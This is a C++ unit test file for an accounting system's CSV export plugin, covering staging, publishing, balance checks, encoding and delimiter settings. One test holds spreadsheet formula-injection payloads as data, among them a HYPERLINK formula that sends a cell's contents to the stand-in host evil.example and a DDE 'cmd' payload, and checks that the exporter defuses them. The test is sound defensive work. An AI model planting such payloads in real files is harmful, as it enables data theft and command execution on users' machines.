// The csv-export exporter through the SDK's fake host (the plugin's C entry point): the file
// staged out of sight and published once, discard, refusals, and the published file read back
// with Python's csv module (read_csv.py), an independent RFC 4180 reader — every booking's
// debit and credit columns must balance, and hostile texts must come back defused but whole.
#include "csv_exporter.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <nlohmann/json.hpp>

#include "csv_test_batch.hpp"
#include "kontor/testing/fake_host.hpp"
#include "support/child_process.hpp"
#include "support/temp_dir.hpp"

extern "C" const kontor_plugin_descriptor* kontor_plugin_entry_impl_v1(
    const kontor_host_info* host) noexcept;

namespace kontor::plugins::csv_export {
namespace {

namespace fs = std::filesystem;
using kontor::testing::file_names_in;
using kontor::testing::read_file;
using test_support::batch_of;
using test_support::customer;
using test_support::day;
using test_support::invoice;
using test_support::line;
using test_support::payment;
using ::testing::HasSubstr;

using Rows = std::vector<std::vector<std::string>>;

// Column positions (booking_csv_columns()).
constexpr std::size_t kBookingId = 1;
constexpr std::size_t kDocument = 3;
constexpr std::size_t kText = 4;
constexpr std::size_t kReverses = 5;
constexpr std::size_t kLine = 8;
constexpr std::size_t kAccount = 9;
constexpr std::size_t kDebit = 11;
constexpr std::size_t kCredit = 12;
constexpr std::size_t kCustomerName = 16;

Money euros_of(const std::string& cell) {
  if (cell.empty()) return Money::zero(Currency::eur());
  return Money::parse(cell, Currency::eur(), Notation::point()).value();
}

class CsvExporterTest : public ::testing::Test {
 protected:
  void SetUp() override { host_.set("path", target_.string()); }

  std::unique_ptr<testing::FakeInstance> create() {
    auto instance = host_.create();
    EXPECT_TRUE(instance.ok()) << (instance.ok() ? "" : instance.error().message);
    return instance.ok() ? std::move(instance).value() : nullptr;
  }

  // The configuration error of create(), or "" when it succeeded.
  std::string refusal() {
    auto instance = host_.create();
    return instance.ok() ? "" : instance.error().message;
  }

  std::vector<std::string> published() const {
    std::vector<std::string> names = file_names_in(target_);
    std::erase(names, ".kontor-staging");
    return names;
  }

  // Stages and publishes `batch` with a new instance, failing the test on the way.
  void export_batch(const sdk::ExportBatch& batch) {
    auto exporter = create();
    ASSERT_TRUE(exporter);
    const sdk::Status staged = exporter->proxy().stage(batch);
    ASSERT_TRUE(staged.is_ok()) << staged.message();
    const sdk::Status status = exporter->proxy().publish(batch.batch_id);
    ASSERT_TRUE(status.is_ok()) << status.message();
  }

  // The rows of a published file as Python's csv module reads them, the heading row first.
  Rows read_back(const std::string& name, const std::string& delimiter = ";") {
    fs::create_directories(dir_ / "python");
    const kontor::testing::Completed python = kontor::testing::run_to_end(
        {.argv = {"/usr/bin/python3", KONTOR_READ_CSV_SCRIPT, (target_ / name).string(), delimiter},
         .output_dir = dir_ / "python",
         .set_env = {},
         .unset_env = {}});
    EXPECT_EQ(python.status, 0) << python.err;
    if (python.status != 0) return {};
    return nlohmann::json::parse(python.out).get<Rows>();
  }

  kontor::testing::TempDir dir_;
  fs::path target_ = dir_ / "csv";
  fs::path staging_root_ = target_ / ".kontor-staging";
  testing::FakeHost host_{&kontor_plugin_entry_impl_v1};
};

TEST_F(CsvExporterTest, TheStagedFileIsOutOfSightUntilPublished) {
  auto exporter = create();
  ASSERT_TRUE(exporter);
  const sdk::Status staged = exporter->proxy().stage(batch_of("b-1", {invoice(1)}));
  ASSERT_TRUE(staged.is_ok()) << staged.message();
  EXPECT_EQ(file_names_in(target_), (std::vector<std::string>{".kontor-staging"}));
  EXPECT_EQ(file_names_in(staging_root_ / "b-1"),
            (std::vector<std::string>{"kontor-batch.txt", "kontor-bookings_b-1.csv"}));

  const sdk::Status status = exporter->proxy().publish("b-1");
  ASSERT_TRUE(status.is_ok()) << status.message();
  EXPECT_EQ(published(), (std::vector<std::string>{"kontor-bookings_b-1.csv"}));
  EXPECT_EQ(file_names_in(staging_root_), (std::vector<std::string>{"b-1.published"}));
  EXPECT_EQ(host_.metrics().at("csv_batches_published"), 1);
}

TEST_F(CsvExporterTest, PublishingTwiceWritesNothingTheSecondTime) {
  auto exporter = create();
  ASSERT_TRUE(exporter->proxy().stage(batch_of("b-2", {invoice(1)})).is_ok());
  ASSERT_TRUE(exporter->proxy().publish("b-2").is_ok());
  const fs::path file = target_ / "kontor-bookings_b-2.csv";
  const std::string bytes = read_file(file);
  const auto written = fs::last_write_time(file);

  const sdk::Status again = exporter->proxy().publish("b-2");
  EXPECT_TRUE(again.is_ok()) << again.message();
  EXPECT_EQ(read_file(file), bytes);
  EXPECT_EQ(fs::last_write_time(file), written);
  EXPECT_EQ(published(), (std::vector<std::string>{"kontor-bookings_b-2.csv"}));
  EXPECT_EQ(host_.metrics().at("csv_batches_published"), 1);

  // Even after the consumer has taken the file away: it is not written again.
  fs::remove(file);
  EXPECT_TRUE(exporter->proxy().publish("b-2").is_ok());
  EXPECT_TRUE(published().empty());
}

TEST_F(CsvExporterTest, APublishedBatchIsNotStagedAgainNorDiscarded) {
  auto exporter = create();
  ASSERT_TRUE(exporter->proxy().stage(batch_of("b-3", {invoice(1)})).is_ok());
  ASSERT_TRUE(exporter->proxy().publish("b-3").is_ok());
  const sdk::Status staged = exporter->proxy().stage(batch_of("b-3", {invoice(1)}));
  EXPECT_FALSE(staged.is_ok());
  EXPECT_FALSE(exporter->proxy().discard("b-3").is_ok());
  EXPECT_EQ(published(), (std::vector<std::string>{"kontor-bookings_b-3.csv"}));
}

TEST_F(CsvExporterTest, DiscardAfterStageLeavesNothing) {
  auto exporter = create();
  ASSERT_TRUE(exporter->proxy().stage(batch_of("b-4", {invoice(1)})).is_ok());
  const sdk::Status discarded = exporter->proxy().discard("b-4");
  ASSERT_TRUE(discarded.is_ok()) << discarded.message();
  EXPECT_TRUE(file_names_in(staging_root_).empty());
  EXPECT_TRUE(published().empty());
  // Discarding again finds nothing and is fine; publishing it now is an error.
  EXPECT_TRUE(exporter->proxy().discard("b-4").is_ok());
  EXPECT_FALSE(exporter->proxy().publish("b-4").is_ok());
}

TEST_F(CsvExporterTest, StagingAgainReplacesWhatWasStaged) {
  auto exporter = create();
  ASSERT_TRUE(exporter->proxy().stage(batch_of("b-5", {invoice(1)})).is_ok());
  ASSERT_TRUE(exporter->proxy().stage(batch_of("b-5", {payment(2)})).is_ok());
  ASSERT_TRUE(exporter->proxy().publish("b-5").is_ok());
  const Rows rows = read_back("kontor-bookings_b-5.csv");
  ASSERT_EQ(rows.size(), 3U);
  EXPECT_EQ(rows[1][kBookingId], "2");
}

TEST_F(CsvExporterTest, AnUnbalancedBookingIsNamedAndNothingStaged) {
  Booking wrong = invoice(5);
  wrong.lines[1] = line("8400", BookingSide::credit, 11800);
  auto exporter = create();
  const sdk::Status staged = exporter->proxy().stage(batch_of("b-6", {invoice(4), wrong}));
  EXPECT_FALSE(staged.is_ok());
  EXPECT_THAT(staged.message(), HasSubstr("booking 5"));
  EXPECT_TRUE(file_names_in(staging_root_).empty());
}

TEST_F(CsvExporterTest, AnEmptyBatchOrOneWithoutIdIsRefused) {
  auto exporter = create();
  EXPECT_FALSE(exporter->proxy().stage(batch_of("b-7", {})).is_ok());
  EXPECT_FALSE(exporter->proxy().stage(batch_of("", {invoice(1)})).is_ok());
  EXPECT_FALSE(exporter->proxy().stage(batch_of("b\n8", {invoice(1)})).is_ok());
  EXPECT_TRUE(file_names_in(staging_root_).empty());
}

TEST_F(CsvExporterTest, ARelativePathIsRefusedWhenTheInstanceIsMade) {
  host_.set("path", "exports/csv");
  EXPECT_THAT(refusal(), HasSubstr("not an absolute path"));
}

TEST_F(CsvExporterTest, ADelimiterOrLineEndOtherThanTheDocumentedOnesIsRefused) {
  host_.set("delimiter", "|");
  host_.set("line_end", "cr");
  const std::string refused = refusal();
  EXPECT_THAT(refused, HasSubstr("delimiter"));
  EXPECT_THAT(refused, HasSubstr("line_end"));
}

TEST_F(CsvExporterTest, EveryBookingReadBackByPythonBalancesItsDebitsAndCredits) {
  Booking split = invoice(3, "RE-2026-0003");
  split.lines = {line("10001", BookingSide::debit, 22600),
                 line("8400", BookingSide::credit, 11900, "3"),
                 line("8300", BookingSide::credit, 10700, "2")};
  const sdk::ExportBatch batch =
      batch_of("b-10", {invoice(1), payment(2), split},
               {{.account = "10001", .customer = customer("K-10001", "Beispiel GmbH")}});
  export_batch(batch);

  const Rows rows = read_back("kontor-bookings_b-10.csv");
  ASSERT_EQ(rows.size(), 1U + 2U + 2U + 3U);
  std::map<std::string, std::pair<Money, Money>> sums;
  for (std::size_t r = 1; r < rows.size(); ++r) {
    ASSERT_EQ(rows[r].size(), 17U) << "row " << r;
    // Exactly one of debit and credit is filled.
    EXPECT_NE(rows[r][kDebit].empty(), rows[r][kCredit].empty()) << "row " << r;
    auto& [debit, credit] = sums.try_emplace(rows[r][kBookingId], Money::zero(Currency::eur()),
                                             Money::zero(Currency::eur()))
                                .first->second;
    debit = debit.plus(euros_of(rows[r][kDebit])).value();
    credit = credit.plus(euros_of(rows[r][kCredit])).value();
  }
  ASSERT_EQ(sums.size(), 3U);
  for (const auto& [id, sum] : sums) EXPECT_EQ(sum.first, sum.second) << "booking " << id;
  EXPECT_EQ(sums.at("3").first, Money(22600, Currency::eur()));
  EXPECT_EQ(rows[1][kCustomerName], "Beispiel GmbH");
  EXPECT_EQ(rows[2][kCustomerName], "");
  EXPECT_EQ(rows[7][kLine], "3");
}

TEST_F(CsvExporterTest, AFormulaInATextCellIsDefusedWithAnApostrophe) {
  Booking hostile = invoice(1, "=HYPERLINK(\"http://evil.example/?\"&A1;\"Beleg\")");
  hostile.text = "@SUM(1+1)*cmd|' /C calc'!A0";
  hostile.lines = {line("+10001", BookingSide::debit, 500),
                   line("-8400", BookingSide::credit, 500, "\t=1")};
  export_batch(batch_of("b-11", {hostile},
                        {{.account = "+10001", .customer = customer("=K1", "-Evil; \"Corp\"")}}));

  const Rows rows = read_back("kontor-bookings_b-11.csv");
  ASSERT_EQ(rows.size(), 3U);
  EXPECT_EQ(rows[1][kDocument], "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Beleg\")");
  EXPECT_EQ(rows[1][kText], "'@SUM(1+1)*cmd|' /C calc'!A0");
  EXPECT_EQ(rows[1][kAccount], "'+10001");
  EXPECT_EQ(rows[2][kAccount], "'-8400");
  EXPECT_EQ(rows[2][14], "'\t=1");
  EXPECT_EQ(rows[1][15], "'=K1");
  EXPECT_EQ(rows[1][kCustomerName], "'-Evil; \"Corp\"");
  // Amounts are Kontor's own and never defused.
  EXPECT_EQ(rows[1][kDebit], "5.00");
  EXPECT_EQ(rows[2][kCredit], "5.00");
}

TEST_F(CsvExporterTest, QuotesDelimitersAndLineBreaksInTextsComeBackWhole) {
  Booking awkward = payment(1, "RE;2026\"7");
  awkward.text = "Zahlung \"Müller; Söhne\"\r\nzweite Zeile\ndritte, Zeile";
  export_batch(batch_of("b-12", {awkward}));
  const Rows rows = read_back("kontor-bookings_b-12.csv");
  ASSERT_EQ(rows.size(), 3U);
  EXPECT_EQ(rows[1][kDocument], "RE;2026\"7");
  EXPECT_EQ(rows[1][kText], awkward.text);
  EXPECT_EQ(rows[2][kText], awkward.text);
}

TEST_F(CsvExporterTest, BytesThatAreNotUtf8AreReplacedSoTheFileIsUtf8) {
  Booking latin1 = payment(1);
  latin1.text = "Zahlung Caf\xE9 M\xFCller";
  export_batch(batch_of("b-13", {latin1}));
  const Rows rows = read_back("kontor-bookings_b-13.csv");  // strict UTF-8: fails otherwise
  ASSERT_EQ(rows.size(), 3U);
  EXPECT_EQ(rows[1][kText], "Zahlung Caf\uFFFD M\uFFFDller");
}

TEST_F(CsvExporterTest, AReversalIsExportedWithTheIdOfTheBookingItReverses) {
  const Booking original = invoice(21);
  Booking reversal = reversal_of(original, day(2026, 11, 25));
  reversal.id = 22;
  export_batch(batch_of("b-14", {original, reversal}));
  const Rows rows = read_back("kontor-bookings_b-14.csv");
  ASSERT_EQ(rows.size(), 5U);
  EXPECT_EQ(rows[1][kReverses], "");
  EXPECT_EQ(rows[3][kBookingId], "22");
  EXPECT_EQ(rows[3][kReverses], "21");
  // Every line on the other side: the original's debit is the reversal's credit.
  EXPECT_EQ(rows[1][kDebit], rows[3][kCredit]);
  EXPECT_EQ(rows[2][kCredit], rows[4][kDebit]);
}

TEST_F(CsvExporterTest, CommaLfAndByteOrderMarkComeFromTheConfiguration) {
  host_.set("delimiter", ",");
  host_.set("line_end", "lf");
  host_.set("bom", "true");
  Booking booking = invoice(1);
  booking.text = "Rechnung, Teil 1";
  export_batch(batch_of("b-15", {booking}));
  const std::string bytes = read_file(target_ / "kontor-bookings_b-15.csv");
  EXPECT_TRUE(
      bytes.starts_with("\xEF\xBB\xBF"
                        "batch,booking_id,"))
      << bytes;
  EXPECT_EQ(bytes.find('\r'), std::string::npos);
  // Python's "utf-8" keeps the mark as U+FEFF in the first cell, as a naive reader would.
  const Rows rows = read_back("kontor-bookings_b-15.csv", ",");
  ASSERT_EQ(rows.size(), 3U);
  EXPECT_EQ(rows[0][0], "\uFEFFbatch");
  EXPECT_EQ(rows[1][kText], "Rechnung, Teil 1");
  EXPECT_EQ(rows[1][kDebit], "119.00");
}

TEST_F(CsvExporterTest, ByDefaultRowsEndInCrLfWithASemicolonAndNoByteOrderMark) {
  export_batch(batch_of("b-16", {invoice(1)}));
  const std::string bytes = read_file(target_ / "kontor-bookings_b-16.csv");
  EXPECT_TRUE(bytes.starts_with("batch;booking_id;")) << bytes;
  EXPECT_TRUE(bytes.ends_with(";\r\n")) << bytes;
  EXPECT_EQ(std::count(bytes.begin(), bytes.end(), '\n'),
            std::count(bytes.begin(), bytes.end(), '\r'));
}

TEST_F(CsvExporterTest, BatchIdsThatDifferOnlyInOtherCharactersGetTheirOwnFiles) {
  export_batch(batch_of("2026/11 a", {invoice(1)}));
  export_batch(batch_of("2026:11 a", {invoice(1)}));
  EXPECT_EQ(published().size(), 2U);
  EXPECT_EQ(csv_file_name("b-1"), "kontor-bookings_b-1.csv");
}

}  // namespace
}  // namespace kontor::plugins::csv_export
